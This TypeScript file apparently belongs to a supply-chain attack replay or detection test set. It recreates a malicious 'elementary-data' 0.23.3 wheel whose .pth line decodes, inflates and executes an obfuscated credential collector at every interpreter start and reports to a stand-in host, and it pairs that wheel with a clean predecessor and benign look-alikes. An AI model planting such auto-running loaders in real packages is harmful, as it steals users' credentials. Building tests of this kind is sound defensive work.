import { deflateSync } from 'node:zlib';
import { base64 } from './encoders.ts';
import { beforeAttack, type Draft, type Remote, type Replay } from './incident.ts';
import { validationLibrary } from './libraries/validation.ts';
import { windowsBootstrap } from './look-alikes/start-up.ts';
import { virtualenvPth } from './look-alikes/start-up-finders.ts';
import { credentialCollector } from './payloads.ts';

const malicious = (c: Remote): Draft => ({
  kind: 'wheel',
  name: 'elementary-data',
  version: '0.23.3',
  files: Object.fromEntries(
    Object.entries(validationLibrary()).map(([path, content]) => [path.replace('guardrails/', 'elementary/'), content]),
  ),
  sites: [
    {
      path: 'elementary.pth',
      form: 'line',
      before: '',
      code: `import zlib,base64;exec(zlib.decompress(base64.b64decode("${base64(deflateSync(Buffer.from(credentialCollector(c))))}")))\n`,
      after: '',
    },
  ],
});

export const ELEMENTARY_DATA: Replay = {
  id: '18-elementary-data',
  title: 'elementary-data 0.23.3: a .pth line that inflates and executes',
  source: 'https://github.com/elementary-data/elementary/issues',
  runs: 'every interpreter start inflates a collector of credentials and executes it in the starting process',
  remote: 'https://telemetry.data-observer.invalid',
  draft: malicious,
  predecessor: () => beforeAttack(malicious, '0.23.2'),
  lookAlikes: () => [virtualenvPth(), windowsBootstrap()],
};
